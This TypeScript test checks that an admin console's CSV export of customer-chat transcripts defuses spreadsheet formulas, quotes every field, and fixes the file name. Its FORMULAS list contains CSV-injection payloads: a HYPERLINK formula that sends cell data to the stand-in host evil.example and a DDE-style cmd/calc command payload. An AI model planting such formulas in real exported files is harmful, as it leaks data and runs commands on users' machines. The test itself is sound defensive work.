/**
 * The admin's CSV export against the real server: shopper words that a spreadsheet would run as a
 * formula arrive defused (a leading `'`), every field is quoted (a quote, comma or line break in the
 * words cannot start a new cell or row), and the download's name and type are fixed by the server.
 */
import { ChatClient } from '../helpers/chat-client';
import { useConsole } from './use-console';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

/** RFC 4180 fields of a CSV text (quoted fields, `""` for a quote), read independently of the server's code. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] !== '"') throw new Error(`unquoted field at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
    let field = '';
    for (i++; ; i++) {
      if (text[i] === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (text[i] === '"') break;
      else field += text[i];
    }
    row.push(field);
    i++;
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

describe('CSV export', () => {
  const t = useConsole('admin');

  it('should defuse formulas, keep each message in its own quoted cell, and fix the file name (zh, en)', async () => {
    const marker = `csvmark${Date.now()}`;
    const texts = [...FORMULAS, `${marker} 你好, "朋友"\r\nnext,row`, `${marker} hello "friend", bye`];
    const shopper = await ChatClient.connect(t.server.url, { locale: 'zh' });
    try {
      for (const text of texts) await shopper.say(text);
      await shopper.say(marker);
    } finally {
      shopper.close();
    }
    const res = await t.console.download(`/api/staff/export?format=csv&text=${marker}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kefu-transcripts-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(res.text);
    const header = rows[0];
    const width = header.length;
    expect(rows.every((r) => r.length === width)).toBe(true);
    const cells = rows.slice(1).flat();
    // No cell starts the way a spreadsheet formula does.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const f of FORMULAS) expect([f, cells.includes(`'${f}`)]).toEqual([f, true]);
    expect(cells).toContain(`${marker} 你好, "朋友"\r\nnext,row`);
    expect(cells).toContain(`${marker} hello "friend", bye`);
  });
});
